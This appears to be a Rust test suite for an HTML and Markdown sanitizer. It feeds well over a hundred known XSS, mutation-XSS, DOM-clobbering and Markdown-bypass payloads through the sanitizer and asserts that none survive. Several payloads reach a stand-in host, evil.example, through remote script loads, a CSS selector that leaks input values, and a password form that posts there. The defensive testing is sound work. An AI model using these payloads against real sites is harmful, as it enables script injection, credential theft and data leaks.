//! Attacks that are known, in the forms in which they are known. None may leave anything behind.

use crate::Sanitizer;
use crate::inspection::assert_harmless;

const SCRIPTS: [&str; 24] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\x0b>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)//",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<body onload=alert(1)>text",
    "<details open ontoggle=alert(1)>x</details>",
    "<p onmouseover = 'alert(1)'>x</p>",
    "<p/onclick=alert(1)>x</p>",
    "<b \x0conclick=alert(1)>x</b>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'><embed src=//evil.example/x.swf></object>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
];

const ADDRESSES: [&str; 25] = [
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript&colon;alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='javascript&NewLine;:alert(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='/auth/logout'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='view-source:javascript:x'>x</a>",
    "<a href='https://user:password@evil.example/'>x</a>",
    "<a href='https://good.example' target=_blank>x</a>",
    "<a href='https://good.example' ping='//evil.example'>x</a>",
    "<a href='https://good.example' download rel=opener>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='https://evil.example/pixel.gif' srcset='https://evil.example/2x 2x' alt=a>",
    "<picture><source srcset='//evil.example/x'><img src='/x'></picture>",
    "<img src='https://media.example/ok.png' onload=alert(1) style='position:fixed'>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<table background='javascript:alert(1)'><tr><td background='//evil.example'>x</td></tr></table>",
    "<video poster='javascript:alert(1)' src='//evil.example'></video>",
];

const FOREIGN: [&str; 26] = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<svg><use href='data:image/svg+xml,x#y'/></svg>",
    "<svg><foreignObject><iframe src='javascript:alert(1)'></iframe></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><title><style><!--</style><img src=x onerror=alert(1)>--></title></svg>",
    "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math><mi><mglyph><svg><mtext><textarea><a title=\"</textarea><img src='#' onerror='alert(1)'>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "<textarea><img title='</textarea><img src onerror=alert(1)>'></textarea>",
    "<title><a title='</title><img src onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src onerror=alert(1)>'></xmp>",
    "<template><script>alert(1)</script></template><template shadowrootmode=open><img src onerror=alert(1)></template>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style></select>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<p title='<!--'><!--' --!><img src=x onerror=alert(1)>",
    "<plaintext><img src=x onerror=alert(1)>",
];

const STYLES_AND_FORMS: [&str; 25] = [
    "<style>@import '//evil.example/x.css';</style>",
    "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p style=\"x:expression(alert(1))\">x</p>",
    "<p class='banner notice'>x</p>",
    "<aside class='notes overlay'>x</aside>",
    "<font color='expression(alert(1))'>x</font>",
    "<form action=//evil.example><input name=password type=password><button>Sign in</button></form>",
    "<button formaction='javascript:alert(1)' form=quiz>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<input form=quiz name=a1 value=x>",
    "<label for=submit>x</label>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select name=a1><option selected>x</option></select>",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<p contenteditable autofocus onfocus=alert(1) tabindex=0>x</p>",
    "<p hidden inert popover>x</p>",
    "<dialog open>x</dialog>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<p role=alert aria-live=assertive aria-hidden=true>x</p>",
];

const CLOBBERING: [&str; 10] = [
    "<img name=cookie><img name=getElementById>",
    "<a id=deck><a id=deck name=length href='tel:1'>x</a>",
    "<form id=document><img name=body></form>",
    "<p id='main'>x</p><p id=\"result\">y</p>",
    "<a href='#main'>x</a><p aria-labelledby='main title'>y</p>",
    "<table><tr><th id=a>x</th><td headers='a b'>y</td></tr></table>",
    "<iframe name=top></iframe><object name=self></object>",
    "<p id=''>x</p><p id=' '>y</p>",
    "<p id=content-x>x</p><a href='#content-x'>y</a>",
    "<p slot=x part=y is=z itemprop=w data-deck=1 nonce=n>x</p>",
];

const MARKDOWN: [&str; 14] = [
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](  javascript:alert(1) \"onclick=alert(1)\")",
    "![x](https://evil.example/pixel.gif\"onerror=alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "# a <img src=x onerror=alert(1)>",
    "- b\n\n  <script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "a[^1]\n\n[^1]: <svg onload=alert(1)>",
    "| a |\n|---|\n| <img src onerror=alert(1)> |",
];

fn sanitizer() -> Sanitizer {
    Sanitizer::new(vec!["https://media.example".to_owned()])
}

#[track_caller]
fn assert_all_harmless(payloads: &[&str]) {
    let sanitizer = sanitizer();
    for payload in payloads {
        for text in [
            (*payload).to_owned(),
            format!("before {payload} after"),
            format!("<div><p>before</p>{payload}<p>after</p></div>"),
            format!("<table><tr><td>{payload}</table>"),
            format!("# Title\n\n{payload}\n\n- item"),
            format!("<p title=\"{payload}\">x</p>"),
            format!("<section><h2>{payload}</h2></section><section>{payload}</section>"),
        ] {
            assert_harmless(sanitizer.content(&text).as_str(), &text);
            assert_harmless(sanitizer.html(&text).as_str(), &text);
            for slide in sanitizer.slides(&text) {
                assert_harmless(slide.content.as_str(), &text);
                assert_harmless(slide.notes.as_str(), &text);
            }
        }
    }
}

#[test]
fn scripts_and_event_handlers_never_reach_a_page() {
    assert_all_harmless(&SCRIPTS);
}

#[test]
fn addresses_that_act_or_load_never_reach_a_page() {
    assert_all_harmless(&ADDRESSES);
}

#[test]
fn svg_mathml_and_mutation_tricks_never_reach_a_page() {
    assert_all_harmless(&FOREIGN);
}

#[test]
fn styles_forms_and_redirects_never_reach_a_page() {
    assert_all_harmless(&STYLES_AND_FORMS);
}

#[test]
fn ids_never_name_a_part_of_the_page() {
    assert_all_harmless(&CLOBBERING);
}

#[test]
fn markdown_is_no_way_around() {
    assert_all_harmless(&MARKDOWN);
}

#[test]
fn the_inspection_would_notice() {
    let sneaked = [
        "<script>1</script>",
        "<p onclick=x>x</p>",
        "<a href=javascript:x>x</a>",
        "<p style=x>x</p>",
        "<p id=main>x</p>",
        "<img src=https://evil.example/x>",
        "<svg></svg>",
        "<!-- x -->",
        "<input>",
    ];
    for html in sneaked {
        assert!(std::panic::catch_unwind(|| assert_harmless(html, html)).is_err(), "{html}");
    }
}
